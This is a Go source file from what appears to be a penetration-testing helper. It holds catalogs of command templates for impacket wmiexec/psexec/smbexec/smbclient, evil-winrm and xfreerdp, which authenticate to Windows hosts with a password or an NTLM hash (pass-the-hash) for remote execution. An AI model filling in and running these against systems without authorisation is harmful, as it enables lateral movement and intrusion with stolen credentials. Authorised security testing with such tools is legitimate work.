package command

// DomainCommands - каталог шаблонов для доменных учетных записей.
// Каталоги неизменяемые; порядок в каталоге определяет порядок вывода.
var DomainCommands = []Command{
	{
		Name:     "impacket-wmiexec",
		Template: "impacket-wmiexec '{domain}'/'{username}':'{password}'@'{targetHost}'",
		AuthType: AuthTypePassword,
	},
	{
		Name:     "impacket-psexec",
		Template: "impacket-psexec '{domain}'/'{username}':'{password}'@'{targetHost}'",
		AuthType: AuthTypePassword,
	},
	{
		Name:     "impacket-smbexec",
		Template: "impacket-smbexec '{domain}'/'{username}':'{password}'@'{targetHost}'",
		AuthType: AuthTypePassword,
	},
	{
		Name:     "impacket-smbclient",
		Template: "impacket-smbclient '{domain}'/'{username}':'{password}'@'{targetHost}'",
		AuthType: AuthTypePassword,
	},
	{
		Name:     "xfreerdp",
		Template: "xfreerdp /u:'{username}' /d:'{domain}' /p:'{password}' /v:'{targetHost}' /cert-ignore /dynamic-resolution",
		AuthType: AuthTypePassword,
	},
	{
		Name:     "Evil-WinRM",
		Template: "evil-winrm -u '{username}' -p '{password}' -i '{targetHost}'",
		AuthType: AuthTypePassword,
	},
	{
		Name:     "impacket-wmiexec (NTLM)",
		Template: "impacket-wmiexec '{domain}'/'{username}'@'{targetHost}' -hashes '00:{ntlmHash}'",
		AuthType: AuthTypeNTLMHash,
	},
	{
		Name:     "impacket-psexec (NTLM)",
		Template: "impacket-psexec '{domain}'/'{username}'@'{targetHost}' -hashes '00:{ntlmHash}'",
		AuthType: AuthTypeNTLMHash,
	},
	{
		Name:     "impacket-smbexec (NTLM)",
		Template: "impacket-smbexec '{domain}'/'{username}'@'{targetHost}' -hashes '00:{ntlmHash}'",
		AuthType: AuthTypeNTLMHash,
	},
	{
		Name:     "impacket-smbclient (NTLM)",
		Template: "impacket-smbclient '{domain}'/'{username}'@'{targetHost}' -hashes '00:{ntlmHash}'",
		AuthType: AuthTypeNTLMHash,
	},
	{
		Name:     "Evil-WinRM (NTLM)",
		Template: "evil-winrm -u '{username}' -H '{ntlmHash}' -i '{targetHost}'",
		AuthType: AuthTypeNTLMHash,
	},
	{
		Name:     "xfreerdp (NTLM)",
		Template: "xfreerdp /u:'{username}' /d:'{domain}' /pth:'{ntlmHash}' /v:'{targetHost}' /cert-ignore /dynamic-resolution",
		AuthType: AuthTypeNTLMHash,
	},
}

// LocalCommands - каталог шаблонов для локальных учетных записей.
// Локальные шаблоны не содержат {domain}.
var LocalCommands = []Command{
	{
		Name:     "local-impacket-wmiexec",
		Template: "impacket-wmiexec '{username}':'{password}'@'{targetHost}'",
		AuthType: AuthTypePassword,
	},
	{
		Name:     "local-impacket-psexec",
		Template: "impacket-psexec '{username}':'{password}'@'{targetHost}'",
		AuthType: AuthTypePassword,
	},
	{
		Name:     "local-impacket-smbexec",
		Template: "impacket-smbexec '{username}':'{password}'@'{targetHost}'",
		AuthType: AuthTypePassword,
	},
	{
		Name:     "local-impacket-smbclient",
		Template: "impacket-smbclient '{username}':'{password}'@'{targetHost}'",
		AuthType: AuthTypePassword,
	},
	{
		Name:     "local-xfreerdp",
		Template: "xfreerdp /u:'{username}' /p:'{password}' /v:'{targetHost}' /cert-ignore /dynamic-resolution",
		AuthType: AuthTypePassword,
	},
	{
		Name:     "local-Evil-WinRM",
		Template: "evil-winrm -u '{username}' -p '{password}' -i '{targetHost}'",
		AuthType: AuthTypePassword,
	},
	{
		Name:     "local-impacket-wmiexec (NTLM)",
		Template: "impacket-wmiexec '{username}'@'{targetHost}' -hashes '00:{ntlmHash}'",
		AuthType: AuthTypeNTLMHash,
	},
	{
		Name:     "local-impacket-psexec (NTLM)",
		Template: "impacket-psexec '{username}'@'{targetHost}' -hashes '00:{ntlmHash}'",
		AuthType: AuthTypeNTLMHash,
	},
	{
		Name:     "local-impacket-smbexec (NTLM)",
		Template: "impacket-smbexec '{username}'@'{targetHost}' -hashes '00:{ntlmHash}'",
		AuthType: AuthTypeNTLMHash,
	},
	{
		Name:     "local-impacket-smbclient (NTLM)",
		Template: "impacket-smbclient '{username}'@'{targetHost}' -hashes '00:{ntlmHash}'",
		AuthType: AuthTypeNTLMHash,
	},
	{
		Name:     "local-Evil-WinRM (NTLM)",
		Template: "evil-winrm -u '{username}' -H '{ntlmHash}' -i '{targetHost}'",
		AuthType: AuthTypeNTLMHash,
	},
	{
		Name:     "local-xfreerdp (NTLM)",
		Template: "xfreerdp /u:'{username}' /pth:'{ntlmHash}' /v:'{targetHost}' /cert-ignore /dynamic-resolution",
		AuthType: AuthTypeNTLMHash,
	},
}

// CatalogFor возвращает каталог для типа учетной записи.
func CatalogFor(local bool) []Command {
	if local {
		return LocalCommands
	}
	return DomainCommands
}
